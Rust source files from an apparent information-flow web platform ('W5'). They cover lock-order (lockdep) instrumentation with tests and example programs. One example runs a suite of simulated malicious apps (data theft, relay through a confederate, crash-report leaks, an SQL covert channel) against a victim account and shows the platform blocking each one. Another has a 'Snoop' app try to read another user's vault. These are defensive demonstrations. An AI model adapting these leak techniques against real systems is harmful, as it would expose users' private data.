    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut()
    }
}

impl<T: ?Sized> std::ops::Deref for MutexGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.inner
    }
}

impl<T: ?Sized> std::ops::DerefMut for MutexGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        &mut self.inner
    }
}

impl<T: std::fmt::Debug> std::fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Mutex").field("class", &self.class).field("index", &self.index).finish()
    }
}

/// A reader-writer lock carrying a static lock class.
pub struct RwLock<T: ?Sized> {
    class: &'static str,
    index: u32,
    inner: parking_lot::RwLock<T>,
}

/// Shared guard returned by [`RwLock::read`].
pub struct RwLockReadGuard<'a, T: ?Sized> {
    inner: parking_lot::RwLockReadGuard<'a, T>,
    _token: HeldToken,
}

/// Exclusive guard returned by [`RwLock::write`].
pub struct RwLockWriteGuard<'a, T: ?Sized> {
    inner: parking_lot::RwLockWriteGuard<'a, T>,
    _token: HeldToken,
}

impl<T> RwLock<T> {
    /// Create an rwlock of class `class`, instance index 0.
    pub const fn new(class: &'static str, value: T) -> Self {
        RwLock::with_index(class, 0, value)
    }

    /// Create an rwlock of class `class` at instance `index`.
    pub const fn with_index(class: &'static str, index: u32, value: T) -> Self {
        RwLock { class, index, inner: parking_lot::RwLock::new(value) }
    }

    /// Consume the lock, returning the inner value.
    pub fn into_inner(self) -> T {
        self.inner.into_inner()
    }
}

impl<T: ?Sized> RwLock<T> {
    /// The lock class this rwlock was declared with.
    pub fn class(&self) -> &'static str {
        self.class
    }

    /// The instance index within the class.
    pub fn index(&self) -> u32 {
        self.index
    }

    /// Acquire a shared read lock. Readers and writers record the same
    /// acquisition facts: lock *order* is what deadlocks, not exclusivity.
    #[track_caller]
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        let token = lockdep::acquire(self.class, self.index);
        RwLockReadGuard { inner: self.inner.read(), _token: token }
    }

    /// Acquire an exclusive write lock.
    #[track_caller]
    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        let token = lockdep::acquire(self.class, self.index);
        RwLockWriteGuard { inner: self.inner.write(), _token: token }
    }

    /// Mutable access without locking (requires exclusive borrow).
    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut()
    }
}

impl<T: ?Sized> std::ops::Deref for RwLockReadGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.inner
    }
}

impl<T: ?Sized> std::ops::Deref for RwLockWriteGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.inner
    }
}

impl<T: ?Sized> std::ops::DerefMut for RwLockWriteGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        &mut self.inner
    }
}

impl<T: std::fmt::Debug> std::fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RwLock").field("class", &self.class).field("index", &self.index).finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn mutex_round_trip() {
        let m = Mutex::new("test.m", 1);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
        assert_eq!(m.class(), "test.m");
        assert_eq!(m.into_inner(), 2);
    }

    #[test]
    fn rwlock_round_trip() {
        let l = RwLock::with_index("test.rw", 3, vec![1]);
        l.write().push(2);
        assert_eq!(l.read().len(), 2);
        assert_eq!(l.index(), 3);
    }

    #[test]
    fn try_lock_respects_contention() {
        let m = Mutex::new("test.try", ());
        let g = m.lock();
        assert!(m.try_lock().is_none());
        drop(g);
        assert!(m.try_lock().is_some());
    }

    #[test]
    fn nested_acquisition_records_an_edge() {
        let rec = Arc::new(lockdep::Recorder::new());
        let a = Mutex::new("test.outer", ());
        let b = Mutex::new("test.inner", ());
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let _ga = a.lock();
            let _gb = b.lock();
        }
        let run = rec.snapshot();
        assert_eq!(run.edges.len(), 1);
        let e = &run.edges[0];
        assert_eq!((e.held.as_str(), e.acquired.as_str()), ("test.outer", "test.inner"));
        assert!(e.site.contains("lib.rs"), "site should carry file:line, got {}", e.site);
    }

    #[test]
    fn guards_release_out_of_lifo_order() {
        let rec = Arc::new(lockdep::Recorder::new());
        let a = Mutex::new("test.lifo.a", ());
        let b = Mutex::new("test.lifo.b", ());
        let c = Mutex::new("test.lifo.c", ());
        let _scope = lockdep::scoped(Arc::clone(&rec));
        let ga = a.lock();
        let gb = b.lock();
        drop(ga); // out of LIFO order: b is still held
        let _gc = c.lock();
        drop(gb);
        let run = rec.snapshot();
        // a->b (nested), a->c must NOT exist (a was dropped), b->c must.
        let pairs: Vec<(String, String)> =
            run.edges.iter().map(|e| (e.held.clone(), e.acquired.clone())).collect();
        assert!(pairs.contains(&("test.lifo.a".into(), "test.lifo.b".into())));
        assert!(pairs.contains(&("test.lifo.b".into(), "test.lifo.c".into())));
        assert!(!pairs.contains(&("test.lifo.a".into(), "test.lifo.c".into())));
    }
}
