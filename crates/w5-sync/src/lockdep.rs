//! Acquisition recording: held stacks, order-graph edges, scoped recorders.
//!
//! The wrappers in the crate root call [`acquire`] on every lock/read/
//! write and drop the returned [`HeldToken`] when the guard drops. The
//! held stack is thread-local and always maintained; the *recording* of
//! edges into a [`Recorder`] happens only when one is reachable:
//!
//! * a thread-scoped recorder installed with [`scoped`] (sim runs hand the
//!   recorder across `thread::scope` workers via [`current_scoped`],
//!   exactly like `w5_obs::scoped`), or
//! * the process-global recorder, when [`enable`] has switched it on
//!   (`W5_LOCKDEP=1` in CI test jobs).
//!
//! A [`Recorder`] dedupes facts by key, keeps the first site per edge, and
//! samples an optional lock-free context provider (e.g. a `KernelStats`
//! snapshot) the first time each edge is seen, so a later W5D finding can
//! name the operation mix that was active. [`Recorder::snapshot`] returns
//! a serializable [`ObservedRun`] consumed by `w5-lockdep`.

use serde::{Deserialize, Serialize};
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::panic::Location;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, OnceLock};

/// Context provider: sampled (lock-free!) when a new edge is first
/// recorded. Must not acquire any classed lock — recording is re-entrancy
/// guarded, so a provider that locks would silently lose its own edges.
pub type ContextFn = dyn Fn() -> String + Send + Sync;

/// One held lock, as seen by the recording thread.
#[derive(Clone, Copy)]
struct Held {
    class: &'static str,
    index: u32,
    token: u64,
}

thread_local! {
    /// Locks currently held by this thread, acquisition order.
    static HELD: RefCell<Vec<Held>> = const { RefCell::new(Vec::new()) };
    /// Active `allow_held` annotations (class names, innermost last).
    static ALLOW: RefCell<Vec<&'static str>> = const { RefCell::new(Vec::new()) };
    /// Thread-scoped recorder stack, innermost last.
    static SCOPED: RefCell<Vec<Arc<Recorder>>> = const { RefCell::new(Vec::new()) };
    /// Re-entrancy guard: set while writing into a recorder so a context
    /// provider (or the recorder's own mutex) cannot recurse into us.
    static RECORDING: RefCell<bool> = const { RefCell::new(false) };
}

static GLOBAL_ON: AtomicBool = AtomicBool::new(false);
static NEXT_TOKEN: AtomicU64 = AtomicU64::new(1);

fn global() -> &'static Arc<Recorder> {
    static GLOBAL: OnceLock<Arc<Recorder>> = OnceLock::new();
    GLOBAL.get_or_init(|| Arc::new(Recorder::new()))
}

/// Switch recording into the process-global recorder on or off.
pub fn enable(on: bool) {
    GLOBAL_ON.store(on, Ordering::Relaxed);
}

/// True when the global recorder is collecting. (Thread-scoped recorders
/// collect regardless of this flag.)
pub fn enabled() -> bool {
    GLOBAL_ON.load(Ordering::Relaxed)
}

/// The process-global recorder. Collects only while [`enable`]d.
pub fn global_recorder() -> Arc<Recorder> {
    Arc::clone(global())
}

/// Install `recorder` as this thread's recorder until the guard drops.
/// Nested scopes stack; the innermost wins.
pub fn scoped(recorder: Arc<Recorder>) -> ScopedRecorder {
    SCOPED.with(|s| s.borrow_mut().push(recorder));
    ScopedRecorder { _private: () }
}

/// The innermost thread-scoped recorder, for handing off into spawned
/// worker threads (mirror of `w5_obs::current_scoped`).
pub fn current_scoped() -> Option<Arc<Recorder>> {
    SCOPED.with(|s| s.borrow().last().cloned())
}

/// Guard returned by [`scoped`]; pops the recorder on drop.
pub struct ScopedRecorder {
    _private: (),
}

impl Drop for ScopedRecorder {
    fn drop(&mut self) {
        let _ = SCOPED.try_with(|s| {
            s.borrow_mut().pop();
        });
    }
}

fn current_recorder() -> Option<Arc<Recorder>> {
    if let Some(r) = current_scoped() {
        return Some(r);
    }
    if enabled() {
        return Some(Arc::clone(global()));
    }
    None
}

/// Declare that acquiring `class` while other locks are held is
/// intentional within the returned guard's scope (e.g.
/// `allow_held("obs.ledger")` around a flow-check that must run under a
/// shard guard). Recorded edges into `class` are marked `allowed`, which
/// downgrades W5D006 to silence; blocking sites named `class` are likewise
/// marked for W5D003.
pub fn allow_held(class: &'static str) -> AllowHeldGuard {
    ALLOW.with(|a| a.borrow_mut().push(class));
    AllowHeldGuard { _private: () }
}

/// Guard returned by [`allow_held`]; pops the annotation on drop.
pub struct AllowHeldGuard {
    _private: (),
}

impl Drop for AllowHeldGuard {
    fn drop(&mut self) {
        let _ = ALLOW.try_with(|a| {
            a.borrow_mut().pop();
        });
    }
}

/// Token representing one entry on the thread's held stack. Dropping it
/// (when the owning guard drops) removes the entry by identity, so guards
/// may be released in any order.
pub struct HeldToken {
    token: u64,
}

impl Drop for HeldToken {
    fn drop(&mut self) {
        if self.token == 0 {
            return;
        }
        let token = self.token;
        let _ = HELD.try_with(|h| {
            h.borrow_mut().retain(|e| e.token != token);
        });
    }
}

/// Record the acquisition of `(class, index)` by this thread: emit edges
/// against everything currently held, then push the new entry. Called by
/// the lock wrappers with `#[track_caller]` so the site is the caller's.
#[track_caller]
pub fn acquire(class: &'static str, index: u32) -> HeldToken {
    let site = Location::caller();
    let token = NEXT_TOKEN.fetch_add(1, Ordering::Relaxed);
    let held_now: Vec<Held> = HELD.with(|h| {
        let mut h = h.borrow_mut();
        let snapshot = h.clone();
        h.push(Held { class, index, token });
        snapshot
    });
    if !held_now.is_empty() {
        if let Some(rec) = current_recorder() {
            let allowed = ALLOW.with(|a| a.borrow().contains(&class));
            record_guarded(|| {
                rec.record_acquisition(&held_now, class, index, site, allowed);
            });
        }
    }
    HeldToken { token }
}

/// Mark a blocking call site (socket write, fs I/O, ledger flush). A
/// no-op when no classed lock is held; otherwise records a blocking event
/// carrying the held set (lint W5D003 unless annotated via
/// [`allow_held`]`(site)` or the manifest).
#[track_caller]
pub fn blocking(site: &'static str) {
    let location = Location::caller();
    let held_now: Vec<Held> = HELD.with(|h| h.borrow().clone());
    if held_now.is_empty() {
        return;
    }
    if let Some(rec) = current_recorder() {
        let allowed = ALLOW.with(|a| a.borrow().contains(&site));
        record_guarded(|| {
            rec.record_blocking(site, &held_now, location, allowed);
        });
    }
}

/// Run `f` with the re-entrancy flag set: classed locks acquired inside
/// (the recorder's own mutex is unclassed, but a careless context
/// provider might lock) do not recurse into recording.
fn record_guarded(f: impl FnOnce()) {
    let entered = RECORDING.with(|r| {
        let mut r = r.borrow_mut();
        if *r {
            false
        } else {
            *r = true;
            true
        }
    });
    if !entered {
        return;
    }
    f();
    let _ = RECORDING.try_with(|r| *r.borrow_mut() = false);
}

// ---------------------------------------------------------------------------
// Recorder
// ---------------------------------------------------------------------------

type EdgeKey = (&'static str, &'static str, bool);
type SameKey = (&'static str, u32, u32, &'static str, u32);
type BlockKey = (&'static str, &'static str, u32);

struct EdgeInfo {
    site_file: &'static str,
    site_line: u32,
    held_index: u32,
    acquired_index: u32,
    count: u64,
    context: Option<String>,
}

struct RunState {
    edges: BTreeMap<EdgeKey, EdgeInfo>,
    same_class: BTreeMap<SameKey, u64>,
    blocking: BTreeMap<BlockKey, (Vec<String>, bool, u64)>,
    notes: Vec<(String, String)>,
}

/// Collects acquisition facts for one run. Cheap to share across threads;
/// facts are deduplicated by key and bounded by the class catalog, not by
/// run length.
pub struct Recorder {
    state: parking_lot::Mutex<RunState>,
    context: parking_lot::Mutex<Option<Box<ContextFn>>>,
}

impl Default for Recorder {
    fn default() -> Self {
        Recorder::new()
    }
}

impl Recorder {
    /// A fresh, empty recorder.
    pub fn new() -> Recorder {
        Recorder {
            state: parking_lot::Mutex::new(RunState {
                edges: BTreeMap::new(),
                same_class: BTreeMap::new(),
                blocking: BTreeMap::new(),
                notes: Vec::new(),
            }),
            context: parking_lot::Mutex::new(None),
        }
    }

    /// Install a lock-free context provider, sampled once per new edge.
    pub fn set_context_provider(&self, f: Box<ContextFn>) {
        *self.context.lock() = Some(f);
    }

    /// Attach a run-level note (e.g. the store's `scanned` total) that the
    /// report renders next to any findings from this run.
    pub fn note(&self, key: &str, value: &str) {
        self.state.lock().notes.push((key.to_string(), value.to_string()));
    }

    /// Drop all recorded facts (the context provider stays).
    pub fn reset(&self) {
        let mut st = self.state.lock();
        st.edges.clear();
        st.same_class.clear();
        st.blocking.clear();
        st.notes.clear();
    }

    fn record_acquisition(
        &self,
        held: &[Held],
        class: &'static str,
        index: u32,
        site: &Location<'static>,
        allowed: bool,
    ) {
        // Sample context outside the state lock; provider must be lock-free.
        let fresh_context = {
            let needs = {
                let st = self.state.lock();
                held.iter().any(|h| {
                    h.class != class && !st.edges.contains_key(&(h.class, class, allowed))
                })
            };
            if needs {
                self.context.lock().as_ref().map(|f| f())
            } else {
                None
            }
        };
        let mut st = self.state.lock();
        for h in held {
            if h.class == class {
                let key: SameKey = (class, h.index, index, site.file(), site.line());
                *st.same_class.entry(key).or_insert(0) += 1;
            } else {
                let e = st.edges.entry((h.class, class, allowed)).or_insert_with(|| EdgeInfo {
                    site_file: site.file(),
                    site_line: site.line(),
                    held_index: h.index,
                    acquired_index: index,
                    count: 0,
                    context: fresh_context.clone(),
                });
                e.count += 1;
            }
        }
    }

    fn record_blocking(
        &self,
        site: &'static str,
        held: &[Held],
        location: &Location<'static>,
        allowed: bool,
    ) {
        let mut st = self.state.lock();
        let key: BlockKey = (site, location.file(), location.line());
        let entry = st.blocking.entry(key).or_insert_with(|| {
            let held_names =
                held.iter().map(|h| format!("{}#{}", h.class, h.index)).collect::<Vec<_>>();
            (held_names, allowed, 0)
        });
        entry.1 = entry.1 && allowed;
        entry.2 += 1;
    }

    /// Snapshot the recorded facts as a serializable run.
    pub fn snapshot(&self) -> ObservedRun {
        let st = self.state.lock();
        ObservedRun {
            edges: st
                .edges
                .iter()
                .map(|((held, acquired, allowed), info)| ObservedEdge {
                    held: held.to_string(),
                    held_index: info.held_index,
                    acquired: acquired.to_string(),
                    acquired_index: info.acquired_index,
                    site: format!("{}:{}", info.site_file, info.site_line),
                    allowed: *allowed,
                    count: info.count,
                    context: info.context.clone().unwrap_or_default(),
                })
                .collect(),
            same_class: st
                .same_class
                .iter()
                .map(|((class, held_index, acquired_index, file, line), count)| SameClassEvent {
                    class: class.to_string(),
                    held_index: *held_index,
                    acquired_index: *acquired_index,
                    site: format!("{file}:{line}"),
                    count: *count,
                })
                .collect(),
            blocking: st
                .blocking
                .iter()
                .map(|((site, file, line), (held, allowed, count))| BlockingEvent {
                    site: site.to_string(),
                    location: format!("{file}:{line}"),
                    held: held.clone(),
                    allowed: *allowed,
                    count: *count,
                })
                .collect(),
            notes: st
                .notes
                .iter()
                .map(|(k, v)| RunNote { key: k.clone(), value: v.clone() })
                .collect(),
        }
    }
}

// ---------------------------------------------------------------------------
// Serializable run
// ---------------------------------------------------------------------------

/// One deduplicated cross-class acquisition edge.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct ObservedEdge {
    /// Class already held when the acquisition happened.
    pub held: String,
    /// Instance index of the held lock (first observation).
    #[serde(default)]
    pub held_index: u32,
    /// Class being acquired.
    pub acquired: String,
    /// Instance index being acquired (first observation).
    #[serde(default)]
    pub acquired_index: u32,
    /// `file:line` of the acquiring call site (first observation).
    pub site: String,
    /// True when an `allow_held(acquired)` annotation was active.
    #[serde(default)]
    pub allowed: bool,
    /// Occurrences recorded.
    #[serde(default)]
    pub count: u64,
    /// Context-provider sample from the first observation ("" if none).
    #[serde(default)]
    pub context: String,
}

/// A second acquisition within one class while an instance is held.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct SameClassEvent {
    /// The class acquired twice.
    pub class: String,
    /// Index already held.
    pub held_index: u32,
    /// Index acquired on top of it.
    pub acquired_index: u32,
    /// `file:line` of the acquiring call site.
    pub site: String,
    /// Occurrences recorded.
    #[serde(default)]
    pub count: u64,
}

/// A marked blocking call reached with classed locks held.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct BlockingEvent {
    /// Declared blocking-site name, e.g. `net.socket.write`.
    pub site: String,
    /// `file:line` of the marker.
    pub location: String,
    /// Held locks as `class#index`, acquisition order.
    pub held: Vec<String>,
    /// True when every occurrence ran under `allow_held(site)`.
    #[serde(default)]
    pub allowed: bool,
    /// Occurrences recorded.
    #[serde(default)]
    pub count: u64,
}

/// A run-level note attached via [`Recorder::note`].
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct RunNote {
    /// Note key, e.g. `store.scanned`.
    pub key: String,
    /// Note value (free-form, often JSON).
    pub value: String,
}

/// Everything one recorder observed: the input to `w5-lockdep` analysis
/// and the JSON payload `w5deadlock` accepts on its command line.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct ObservedRun {
    /// Cross-class edges, deduplicated.
    pub edges: Vec<ObservedEdge>,
    /// Same-class double acquisitions.
    #[serde(default)]
    pub same_class: Vec<SameClassEvent>,
    /// Blocking sites reached with locks held.
    #[serde(default)]
    pub blocking: Vec<BlockingEvent>,
    /// Run-level notes.
    #[serde(default)]
    pub notes: Vec<RunNote>,
}

impl ObservedRun {
    /// An empty run.
    pub fn empty() -> ObservedRun {
        ObservedRun { edges: Vec::new(), same_class: Vec::new(), blocking: Vec::new(), notes: Vec::new() }
    }

    /// Merge another run's facts into this one (counts add; `allowed`
    /// weakens to false if either side was unannotated).
    pub fn merge(&mut self, other: &ObservedRun) {
        for e in &other.edges {
            if let Some(mine) = self
                .edges
                .iter_mut()
                .find(|m| m.held == e.held && m.acquired == e.acquired && m.allowed == e.allowed)
            {
                mine.count += e.count;
            } else {
                self.edges.push(e.clone());
            }
        }
        for s in &other.same_class {
            if let Some(mine) = self.same_class.iter_mut().find(|m| {
                m.class == s.class
                    && m.held_index == s.held_index
                    && m.acquired_index == s.acquired_index
                    && m.site == s.site
            }) {
                mine.count += s.count;
            } else {
                self.same_class.push(s.clone());
            }
        }
        for b in &other.blocking {
            if let Some(mine) = self
                .blocking
                .iter_mut()
                .find(|m| m.site == b.site && m.location == b.location)
            {
                mine.count += b.count;
                mine.allowed = mine.allowed && b.allowed;
            } else {
                self.blocking.push(b.clone());
            }
        }
        self.notes.extend(other.notes.iter().cloned());
    }

    /// Every class name appearing anywhere in the run, sorted.
    pub fn classes(&self) -> Vec<String> {
        let mut out: Vec<String> = Vec::new();
        let mut push = |c: &str| {
            if !out.iter().any(|x| x == c) {
                out.push(c.to_string());
            }
        };
        for e in &self.edges {
            push(&e.held);
            push(&e.acquired);
        }
        for s in &self.same_class {
            push(&s.class);
        }
        for b in &self.blocking {
            for h in &b.held {
                push(h.split('#').next().unwrap_or(h));
            }
        }
        out.sort();
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Mutex;

    #[test]
    fn blocking_with_no_locks_is_silent() {
        let rec = Arc::new(Recorder::new());
        let _scope = scoped(Arc::clone(&rec));
        blocking("test.noop");
        assert!(rec.snapshot().blocking.is_empty());
    }

    #[test]
    fn blocking_under_a_lock_is_recorded_with_the_held_set() {
        let rec = Arc::new(Recorder::new());
        let m = Mutex::with_index("test.block.holder", 7, ());
        {
            let _scope = scoped(Arc::clone(&rec));
            let _g = m.lock();
            blocking("test.block.site");
        }
        let run = rec.snapshot();
        assert_eq!(run.blocking.len(), 1);
        let b = &run.blocking[0];
        assert_eq!(b.site, "test.block.site");
        assert_eq!(b.held, vec!["test.block.holder#7".to_string()]);
        assert!(!b.allowed);
    }

    #[test]
    fn allow_held_marks_edges_and_blocking() {
        let rec = Arc::new(Recorder::new());
        let outer = Mutex::new("test.allow.outer", ());
        let inner = Mutex::new("test.allow.inner", ());
        {
            let _scope = scoped(Arc::clone(&rec));
            let _g = outer.lock();
            let _permit = allow_held("test.allow.inner");
            let _gi = inner.lock();
            let _permit2 = allow_held("test.allow.site");
            blocking("test.allow.site");
        }
        let run = rec.snapshot();
        assert!(run.edges.iter().all(|e| e.allowed));
        assert!(run.blocking.iter().all(|b| b.allowed));
    }

    #[test]
    fn same_class_events_are_separate_from_edges() {
        let rec = Arc::new(Recorder::new());
        let a = Mutex::with_index("test.same", 0, ());
        let b = Mutex::with_index("test.same", 1, ());
        {
            let _scope = scoped(Arc::clone(&rec));
            let _ga = a.lock();
            let _gb = b.lock();
        }
        let run = rec.snapshot();
        assert!(run.edges.is_empty(), "same-class nesting must not create a cycle-able edge");
        assert_eq!(run.same_class.len(), 1);
        let s = &run.same_class[0];
        assert_eq!((s.held_index, s.acquired_index), (0, 1));
    }

    #[test]
    fn context_provider_is_sampled_on_first_edge() {
        let rec = Arc::new(Recorder::new());
        rec.set_context_provider(Box::new(|| "ops=42".to_string()));
        let a = Mutex::new("test.ctx.a", ());
        let b = Mutex::new("test.ctx.b", ());
        {
            let _scope = scoped(Arc::clone(&rec));
            let _ga = a.lock();
            let _gb = b.lock();
        }
        let run = rec.snapshot();
        assert_eq!(run.edges[0].context, "ops=42");
    }

    #[test]
    fn run_round_trips_through_json_and_merges() {
        let rec = Arc::new(Recorder::new());
        let a = Mutex::new("test.json.a", ());
        let b = Mutex::new("test.json.b", ());
        {
            let _scope = scoped(Arc::clone(&rec));
            let _ga = a.lock();
            let _gb = b.lock();
        }
        rec.note("workload", "unit-test");
        let run = rec.snapshot();
        let json = serde_json::to_string_pretty(&run).unwrap();
        let back: ObservedRun = serde_json::from_str(&json).unwrap();
        assert_eq!(run, back);
        let mut merged = ObservedRun::empty();
        merged.merge(&run);
        merged.merge(&back);
        assert_eq!(merged.edges.len(), 1);
        assert_eq!(merged.edges[0].count, 2 * run.edges[0].count);
        assert_eq!(merged.classes(), vec!["test.json.a".to_string(), "test.json.b".to_string()]);
    }

    #[test]
    fn global_recorder_collects_only_when_enabled() {
        // Serialize access to the global flag with a dedicated lock class
        // so parallel tests in this binary don't interleave enable states.
        let a = Mutex::new("test.global.a", ());
        let b = Mutex::new("test.global.b", ());
        {
            let _ga = a.lock();
            let _gb = b.lock(); // disabled, no scope: nothing recorded
        }
        let before = global_recorder().snapshot();
        assert!(!before.edges.iter().any(|e| e.held.starts_with("test.global")));
        enable(true);
        {
            let _ga = a.lock();
            let _gb = b.lock();
        }
        enable(false);
        let after = global_recorder().snapshot();
        assert!(after.edges.iter().any(|e| e.held == "test.global.a" && e.acquired == "test.global.b"));
    }
}
