//! Carrier crate for repository-root `tests/`. See that directory.

#![forbid(unsafe_code)]
