//! Carrier crate for repository-root `tests/`. See that directory.
