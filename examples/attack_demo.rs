//! The §3 threat model, live: every attack from the malicious-application
//! suite runs against a real victim and is defeated by the platform, not
//! by the applications.
//!
//! ```sh
//! cargo run -p w5-examples --example attack_demo
//! ```

use bytes::Bytes;
use w5_platform::{Account, Platform};

fn run(
    p: &std::sync::Arc<Platform>,
    viewer: &Account,
    app: &str,
    action: &str,
    params: &[(&str, &str)],
) -> u16 {
    let req = Platform::make_request("GET", action, params, Some(viewer), Bytes::new());
    p.invoke(Some(viewer), app, req).status
}

fn main() {
    let p = Platform::new_default("under-attack");
    w5_apps::install_all(&p);
    let bob = p.accounts.register("bob", "pw").unwrap();
    let mallory = p.accounts.register("mallory", "pw").unwrap();
    p.policies.delegate_write(bob.id, "devA/photos");
    assert_eq!(w5_apps::photos::upload_test_photo(&p, &bob, "private", 8), 200);
    println!("victim: bob uploads /photos/bob/private\n");

    let secret_path = [("path", "/photos/bob/private")];

    let s = run(&p, &mallory, "mal/exfiltrator", "steal", &secret_path);
    println!("1. direct theft          → {s} (perimeter blocks mallory)");

    let s1 = run(&p, &mallory, "mal/stasher", "stash", &[("path", "/photos/bob/private"), ("tag", "1")]);
    let s2 = run(&p, &mallory, "mal/confederate", "fetch", &[("tag", "1")]);
    println!("2. confederate relay     → stash {s1}, fetch {s2} (taint follows the data)");

    let s = run(&p, &mallory, "mal/vandal", "x", &secret_path);
    println!("3. vandalism             → {s} (needs bob's w+)");

    let s = run(&p, &mallory, "mal/deleter", "x", &secret_path);
    println!("4. deletion              → {s}");

    let s = run(&p, &mallory, "mal/misrepresenter", "x", &[("victim", "bob")]);
    println!("5. misrepresentation     → {s} (file created, but carries no integrity tag)");

    let s = run(&p, &mallory, "mal/crashleaker", "x", &secret_path);
    let redacted = p.fault_reports().iter().all(|r| {
        r.detail.as_deref().map(|d| !d.contains("W5IMG")).unwrap_or(true)
    });
    println!("6. crash-report leak     → {s} (fault report redacted: {redacted})");

    let s = run(&p, &mallory, "mal/covert", "send", &[("path", "/photos/bob/private"), ("bit", "1")]);
    let r = run(&p, &mallory, "mal/covert", "recv", &[]);
    println!("7. SQL covert channel    → send {s}, recv {r} (count never exports)");

    // And through it all, bob's data is intact and bob can still use the
    // very same "malicious" apps on his own data.
    let s = run(&p, &bob, "devA/photos", "view", &[("user", "bob"), ("name", "private")]);
    println!("\nbob's photo intact: {s}");
    let s = run(&p, &bob, "mal/exfiltrator", "steal", &secret_path);
    println!("bob using the evil app on his own data: {s} (owner session clears)");

    let (checked, blocked, _) = p.exporter.stats();
    println!("\nperimeter audit: {checked} exports checked, {blocked} blocked");
    println!("every blocked attempt is in the provider's audit log:");
    for e in p.exporter.audit_log().iter().filter(|e| !e.allowed).take(5) {
        println!("  viewer={:?} app={} tags={:?}", e.viewer, e.app, e.secrecy_tags);
    }
}
