//! The §3.1/§3.2 policy extensions in action: editor endorsements with
//! integrity-protected launching, and read-protected ("vault") data that
//! untrusted apps cannot even see.
//!
//! ```sh
//! cargo run -p w5-examples --example editors_and_vault
//! ```

use bytes::Bytes;
use std::sync::Arc;
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Platform, PlatformApi, W5App,
};

struct VaultApp;

impl W5App for VaultApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let me = api.viewer().ok_or(ApiError::Denied)?.to_string();
        match req.action.as_str() {
            "put" => {
                api.create_file(
                    &format!("/vault/{me}"),
                    Bytes::from(req.param("text").unwrap_or("").to_string()),
                    CreateLabels::ViewerPrivate,
                )?;
                Ok(AppResponse::text("stored in vault"))
            }
            "get" => {
                let data = api.read_file(&format!("/vault/{me}"))?;
                Ok(AppResponse::text(String::from_utf8_lossy(&data).into_owned()))
            }
            _ => Err(ApiError::NotFound),
        }
    }
    fn source_lines(&self) -> usize {
        25
    }
}

fn publish(p: &Arc<Platform>, dev: &str, name: &str, imports: Vec<String>) {
    p.apps
        .publish(AppManifest {
            name: name.into(),
            developer: dev.into(),
            version: 1,
            description: format!("{name} demo"),
            module_slots: vec![],
            imports,
            forked_from: None,
            source: None,
        })
        .unwrap();
}

fn run(p: &Arc<Platform>, viewer: &w5_platform::Account, app: &str, action: &str, params: &[(&str, &str)]) -> (u16, String) {
    let req = Platform::make_request("GET", action, params, Some(viewer), Bytes::new());
    let r = p.invoke(Some(viewer), app, req);
    (r.status, String::from_utf8_lossy(&r.body).into_owned())
}

fn main() {
    let p = Platform::new_default("extensions-demo");
    publish(&p, "devC", "syslib", vec![]);
    publish(&p, "devV", "vault", vec!["devC/syslib".into()]);
    p.install_app("devV/vault", Arc::new(VaultApp));

    let bob = p.accounts.register("bob", "pw").unwrap();
    p.policies.delegate_write(bob.id, "devV/vault");

    // ---- Integrity-protected launching (§3.1/§3.2).
    println!("== editor endorsements ==");
    p.policies.set_require_endorsement(bob.id, true);
    p.policies.trust_editor(bob.id, "trade-journal");
    let (s, body) = run(&p, &bob, "devV/vault", "get", &[]);
    println!("launch before any endorsement: {s} ({})", body.trim());

    p.editors.endorse("trade-journal", "devV/vault", 1, "audited the vault app");
    let (s, body) = run(&p, &bob, "devV/vault", "get", &[]);
    println!("app endorsed, import not:      {s} ({})", body.trim());

    p.editors.endorse("trade-journal", "devC/syslib", 1, "audited the library");
    let (s, _) = run(&p, &bob, "devV/vault", "get", &[]);
    println!("whole closure endorsed:        {s} (vault is empty, so 404 — the gate is open)");

    // ---- Read protection (§3.1).
    println!("\n== read-protected vault ==");
    p.accounts.enable_read_protection(bob.id).unwrap();
    let bob = p.accounts.get(bob.id).unwrap(); // pick up the new r_bob tag
    println!("bob's read tag: {:?}", bob.read_tag.unwrap());

    let (s, _) = run(&p, &bob, "devV/vault", "put", &[("text", "the launch codes")]);
    println!("store secret:                  {s}");
    let (s, _) = run(&p, &bob, "devV/vault", "get", &[]);
    println!("read WITHOUT read delegation:  {s} (the file is invisible to the instance)");

    p.policies.delegate_read(bob.id, "devV/vault");
    let (s, body) = run(&p, &bob, "devV/vault", "get", &[]);
    println!("read WITH read delegation:     {s} ({})", body.trim());

    // Mallory's instance never sees the file, whatever she delegates to
    // her own apps.
    let mallory = p.accounts.register("mallory", "pw").unwrap();
    p.policies.set_require_endorsement(mallory.id, false);
    struct Snoop;
    impl W5App for Snoop {
        fn handle(&self, _r: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
            let d = api.read_file("/vault/bob")?;
            Ok(AppResponse::text(String::from_utf8_lossy(&d).into_owned()))
        }
        fn source_lines(&self) -> usize {
            5
        }
    }
